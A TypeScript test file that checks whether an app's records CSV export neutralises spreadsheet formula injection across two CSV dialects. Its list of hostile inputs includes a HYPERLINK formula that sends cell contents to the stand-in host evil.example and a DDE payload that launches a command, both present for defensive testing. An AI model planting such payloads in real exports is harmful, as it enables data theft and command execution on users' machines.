import { deadline } from '@merma/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS, CSV_HEADERS_ES } from '../src/modules/records/export.js';
import { assertNoFormula, DIALECTS, expectedCell, FORMULA_CHARS, parseCsv } from './csv.js';
import { createMember, DashboardBrowser, PASSWORD } from './dashboard-client.js';
import { api, createTenant, startTestApp, type Tenant, type TestContext, validRecord } from './helpers.js';

/**
 * The records CSV export against formula injection: text people typed (notes, product names, shift
 * names) that would start a formula in a spreadsheet — at the start of a cell, or at the start of a
 * line inside one, where a reader that splits lines would see a new row — is read back as text,
 * every record is exactly one row, and quotes and both separators survive, in both CSV forms.
 */

/** A column's header in a form: Spanish in `es`, the API's field name in `plain`. */
const header = (dialect: 'es' | 'plain', column: string) => (dialect === 'es' ? (CSV_HEADERS_ES[column] as string) : column);

const HOSTILE = [
  'a\n=HYPERLINK("https://evil.example/?"&A1,"click")',
  'ok\r\n+1+1',
  'ok\r-2+3',
  'ok\n@SUM(A1:A9)',
  'ok\n\tline with a tab',
  "=cmd|' /C calc'!A0",
  '+34 600 000 000',
  '-5 kg',
  '@mention',
  '\t=1',
  '\r=1',
  '\n=1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
  'first\nsecond\n\n=third',
  'comma, semicolon; "double quotes" and \'single\'',
  '"=1"',
  ';=1',
  ',=1',
  "'=already quoted",
  'plain note',
  'ends with a break\n',
];

describe('records CSV export: formula injection', () => {
  let t: TestContext;
  let tenant: Tenant;
  let owner: DashboardBrowser;
  const now = new Date('2026-11-23T11:00:00Z');
  const shiftName = 'Noche\n=1+1';
  let stored: { id: string; notes: string | null; product_name: string | null }[];

  beforeAll(async () => {
    t = await startTestApp({ config: { TRUST_PROXY: 'true', REDIS_URL: '' }, clock: () => now });
    tenant = await createTenant(t.db);
    const client = api(t.app, tenant.key);
    const shift = await client.post('/api/v1/shifts', { name: shiftName, start_time: '22:00', end_time: '06:00' });
    expect(shift.statusCode, shift.body).toBe(201);
    const records = HOSTILE.map((text, i) =>
      validRecord({ notes: text, product_name: HOSTILE[(i + 7) % HOSTILE.length], shift_id: shift.json().data.id }),
    );
    const res = await client.post('/api/v1/records/batch', { records });
    expect(res.statusCode, res.body).toBe(200);
    stored = (await client.get('/api/v1/records', { query: { limit: '200' } })).json().data;
    expect(stored).toHaveLength(HOSTILE.length);
    const member = await createMember(t.db, tenant.organizationId, 'owner');
    owner = new DashboardBrowser(t.app);
    await owner.signIn(member.email, PASSWORD);
  }, deadline(60_000));

  afterAll(async () => {
    await t?.close();
  });

  const download = (dialect: string) =>
    t.app.inject({
      method: 'GET',
      url: '/export/records.csv',
      query: { establishment_id: tenant.establishmentId, mode: 'test', dialect, from: '2026-11-01', to: '2026-11-30' },
      headers: { cookie: `merma_session=${owner.cookies.get('merma_session')}`, 'sec-fetch-site': 'same-origin' },
    });

  it.each(DIALECTS)('one row per record, the stored texts read back as text ($dialect)', async ({ dialect, delimiter }) => {
    const res = await download(dialect);
    expect(res.statusCode, res.body).toBe(200);
    const rows = parseCsv(res.body, delimiter);
    const cell = (row: Record<string, string>, column: string) => row[header(dialect, column)];
    expect(rows).toHaveLength(stored.length);
    expect(rows.map((r) => cell(r, 'id')).sort()).toEqual(stored.map((r) => r.id).sort());
    const byId = new Map(stored.map((r) => [r.id, r]));
    for (const row of rows) {
      const record = byId.get(cell(row, 'id') as string);
      expect(cell(row, 'notes')).toBe(expectedCell(record?.notes ?? ''));
      expect(cell(row, 'product_name')).toBe(expectedCell(record?.product_name ?? ''));
      expect(cell(row, 'shift_name')).toBe(expectedCell(shiftName));
      expect(Object.keys(row)).toEqual(CSV_COLUMNS.map((c) => header(dialect, c)));
      for (const cell of Object.values(row)) assertNoFormula(cell);
    }
    // A program that reads the file line by line never meets a line starting a formula either.
    const body = res.body.replace(/^\uFEFF/, '');
    for (const line of body.split(/\r\n|\r|\n/)) {
      expect(FORMULA_CHARS.has(line.replace(/^"/, '')[0] ?? ''), JSON.stringify(line)).toBe(false);
    }
  });

  it.each(DIALECTS)('quotes and both separators survive ($dialect)', async ({ dialect, delimiter }) => {
    const rows = parseCsv((await download(dialect)).body, delimiter);
    const text = 'comma, semicolon; "double quotes" and \'single\'';
    const id = stored.find((r) => r.notes === text)?.id;
    expect(rows.find((r) => r[header(dialect, 'id')] === id)?.[header(dialect, 'notes')]).toBe(text);
    // A field holding either separator, a quote or a line break is quoted, whichever the file's separator.
    const raw = (await download(dialect)).body;
    expect(raw).toContain('"comma, semicolon; ""double quotes"" and \'single\'"');
    expect(raw).toContain(`"Noche\n'=1+1"`);
  });
});
